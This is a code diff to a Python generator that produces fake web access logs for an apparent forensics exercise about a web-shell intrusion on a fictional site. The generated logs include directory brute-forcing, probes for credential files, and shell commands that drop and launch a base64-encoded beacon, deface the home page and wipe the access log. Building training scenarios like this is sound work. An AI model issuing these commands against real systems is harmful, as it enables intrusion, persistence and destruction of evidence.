@@ -20,8 +20,8 @@ from __future__ import annotations
 import base64
 import random
 import sys
-from urllib.parse import quote as url_quote
 from datetime import datetime, timedelta, timezone
+from urllib.parse import quote as url_quote
 
 LOCAL = timezone(timedelta(hours=1))
 NIGHT = datetime(2026, 11, 28, 0, 0, 0, tzinfo=LOCAL)
@@ -38,25 +38,74 @@ BROWSERS = [
     "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 "
     "(KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
 ]
-PAGES = {
-    "/": 2281,
-    "/products.html": 3410,
-    "/about.html": 1688,
-    "/contact.html": 1502,
-}
-ASSETS = {"/static/style.css": 1204, "/static/logo.svg": 873}
+# Response sizes as web serves them (its pages and its plain-text errors).
+PAGES = {"/": 470, "/products.html": 512, "/about.html": 482, "/contact.html": 505}
+ASSETS = {"/static/style.css": 219, "/static/logo.svg": 211}
+ERROR_SIZES = {401: 24, 403: 10, 404: 10}
 SCANNER_PATHS = [
-    "/.env", "/.git/config", "/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/phpmyadmin/",
-    "/pma/", "/admin.php", "/config.php", "/server-status", "/.aws/credentials", "/actuator",
-    "/actuator/health", "/api/v1/", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
-    "/cgi-bin/test.cgi", "/boaform/admin/formLogin", "/HNAP1/", "/owa/", "/solr/",
-    "/console/", "/manager/html", "/.DS_Store", "/backup.zip", "/db.sql", "/shell.php",
+    "/.env",
+    "/.git/config",
+    "/wp-login.php",
+    "/wp-admin/",
+    "/xmlrpc.php",
+    "/phpmyadmin/",
+    "/pma/",
+    "/admin.php",
+    "/config.php",
+    "/server-status",
+    "/.aws/credentials",
+    "/actuator",
+    "/actuator/health",
+    "/api/v1/",
+    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+    "/cgi-bin/test.cgi",
+    "/boaform/admin/formLogin",
+    "/HNAP1/",
+    "/owa/",
+    "/solr/",
+    "/console/",
+    "/manager/html",
+    "/.DS_Store",
+    "/backup.zip",
+    "/db.sql",
+    "/shell.php",
 ]
 WORDLIST = [
-    "admin", "backup", "backups", "bin", "cgi-bin", "config", "css", "data", "db", "dev",
-    "docs", "download", "downloads", "files", "images", "img", "include", "js", "lib", "log",
-    "logs", "old", "private", "scripts", "secret", "static", "temp", "test", "tmp", "tools",
-    "upload", "uploads", "user", "users", "www",
+    "admin",
+    "backup",
+    "backups",
+    "bin",
+    "cgi-bin",
+    "config",
+    "css",
+    "data",
+    "db",
+    "dev",
+    "docs",
+    "download",
+    "downloads",
+    "files",
+    "images",
+    "img",
+    "include",
+    "js",
+    "lib",
+    "log",
+    "logs",
+    "old",
+    "private",
+    "scripts",
+    "secret",
+    "static",
+    "temp",
+    "test",
+    "tmp",
+    "tools",
+    "upload",
+    "uploads",
+    "user",
+    "users",
+    "www",
 ]
 # What the attacker wrote (the web image holds the same bytes: web/dropped/).
 SHELL_PATH = "/srv/www/cgi-bin/stats.cgi"
@@ -71,8 +120,9 @@ DEFACED = "<h1>Owned by gr3y.sh3ll</h1>\n"
 CGI_WORDS = ["test.cgi", "status.cgi", "lookup.cgi", "info.cgi", "ping.cgi", "env.cgi"]
 
 
-def line(when: datetime, ip: str, request: str, status: int, size: int, agent: str,
-         referer: str = "-") -> tuple[datetime, str]:
+def line(
+    when: datetime, ip: str, request: str, status: int, size: int, agent: str, referer: str = "-"
+) -> tuple[datetime, str]:
     stamp = when.strftime("%d/%b/%Y:%H:%M:%S %z")
     size_text = str(size) if size else "-"
     return when, f'{ip} - - [{stamp}] "{request}" {status} {size_text} "{referer}" "{agent}"'
@@ -102,7 +152,17 @@ def visitors(rng: random.Random) -> list[tuple[datetime, str]]:
         out.append(line(when, ip, get(page), 200, PAGES[page], agent))
         for asset, size in ASSETS.items():
             when += timedelta(seconds=1)
-            out.append(line(when, ip, get(asset), 200, size, agent, f"http://www.harbourfreight.example{page}"))
+            out.append(
+                line(
+                    when,
+                    ip,
+                    get(asset),
+                    200,
+                    size,
+                    agent,
+                    f"http://www.harbourfreight.example{page}",
+                )
+            )
         for _ in range(rng.randrange(0, 3)):
             when += timedelta(seconds=rng.randrange(8, 70))
             nxt = rng.choice(list(PAGES))
@@ -115,9 +175,14 @@ def staff(rng: random.Random) -> list[tuple[datetime, str]]:
     """The office uses its DNS lookup tool now and then (the tool the attacker abused)."""
     agent = BROWSERS[0]
     out = []
-    for hour, host in [(0, "mail.harbourfreight.example"), (7, "erp.harbourfreight.example"),
-                       (8, "mail.harbourfreight.example")]:
-        when = NIGHT + timedelta(hours=hour, minutes=rng.randrange(5, 30), seconds=rng.randrange(60))
+    for hour, host in [
+        (0, "mail.harbourfreight.example"),
+        (7, "erp.harbourfreight.example"),
+        (8, "mail.harbourfreight.example"),
+    ]:
+        when = NIGHT + timedelta(
+            hours=hour, minutes=rng.randrange(5, 30), seconds=rng.randrange(60)
+        )
         out.append(line(when, STAFF, get(f"/cgi-bin/lookup.cgi?host={host}"), 200, 118, agent))
     return out
 
@@ -129,7 +194,7 @@ def scanner(rng: random.Random) -> list[tuple[datetime, str]]:
     out = []
     for _ in range(4):
         for path in SCANNER_PATHS:
-            out.append(line(when, SCANNER, get(path), 404, 196, agent))
+            out.append(line(when, SCANNER, get(path), 404, ERROR_SIZES[404], agent))
             when += timedelta(seconds=rng.randrange(1, 4))
     return out
 
@@ -138,15 +203,16 @@ def attacker(rng: random.Random) -> list[tuple[datetime, str]]:
     out = []
     gobuster = "gobuster/3.6"
     when = NIGHT + timedelta(hours=2, minutes=51, seconds=10)
-    found = {"cgi-bin": 403, "static": 403, "admin": 401}
+    found = {"cgi-bin": 403, "static": 403, "admin": 401}  # as web answers them
     for word in WORDLIST:
         status = found.get(word, 404)
-        out.append(line(when, ATTACKER, get(f"/{word}/"), status, 196 if status == 404 else 199, gobuster))
+        out.append(line(when, ATTACKER, get(f"/{word}/"), status, ERROR_SIZES[status], gobuster))
         when += timedelta(milliseconds=rng.randrange(300, 2500))
     when += timedelta(seconds=40)
     for word in CGI_WORDS:
         status = 200 if word == "lookup.cgi" else 404
-        out.append(line(when, ATTACKER, get(f"/cgi-bin/{word}"), status, 92 if status == 200 else 196, gobuster))
+        size = 92 if status == 200 else ERROR_SIZES[status]
+        out.append(line(when, ATTACKER, get(f"/cgi-bin/{word}"), status, size, gobuster))
         when += timedelta(milliseconds=rng.randrange(300, 2500))
 
     curl = "curl/8.4.0"
@@ -169,13 +235,20 @@ def attacker(rng: random.Random) -> list[tuple[datetime, str]]:
         ("03:09:48", shell + quote("ps -ef"), 611, browser),
         ("03:10:26", shell + quote(f"echo {b64(BEACON)}|base64 -d>/tmp/.sync"), 0, browser),
         ("03:10:41", shell + quote("nohup /bin/sh /tmp/.sync >/dev/null 2>&1 &"), 0, browser),
-        ("03:11:20", shell + quote(f"echo {b64(DEFACED)}|base64 -d>/srv/www/html/index.html"), 0, browser),
+        (
+            "03:11:20",
+            shell + quote(f"echo {b64(DEFACED)}|base64 -d>/srv/www/html/index.html"),
+            0,
+            browser,
+        ),
         ("03:11:37", "/", len(DEFACED), browser),
         ("03:12:09", shell + quote(":>/var/log/web/access.log"), 0, browser),
     ]
     for clock, path, size, agent in steps:
         h, m, s = (int(part) for part in clock.split(":"))
-        out.append(line(NIGHT.replace(hour=h, minute=m, second=s), ATTACKER, get(path), 200, size, agent))
+        out.append(
+            line(NIGHT.replace(hour=h, minute=m, second=s), ATTACKER, get(path), 200, size, agent)
+        )
     when = NIGHT.replace(hour=3, minute=27, second=5)
     while when < END:
         out.append(line(when, ATTACKER, get("/cgi-bin/stats.cgi?c=uptime"), 200, 71, browser))
@@ -187,8 +260,9 @@ def deface_sizes(entries: list[tuple[datetime, str]]) -> list[tuple[datetime, st
     """After 03:11:20 the home page is the defaced one."""
     defaced = NIGHT.replace(hour=3, minute=11, second=20)
     return [
-        (when, text.replace('"GET / HTTP/1.1" 200 2281', f'"GET / HTTP/1.1" 200 {len(DEFACED)}'))
-        if when > defaced else (when, text)
+        (when, text.replace('"GET / HTTP/1.1" 200 470', f'"GET / HTTP/1.1" 200 {len(DEFACED)}'))
+        if when > defaced
+        else (when, text)
         for when, text in entries
     ]
 
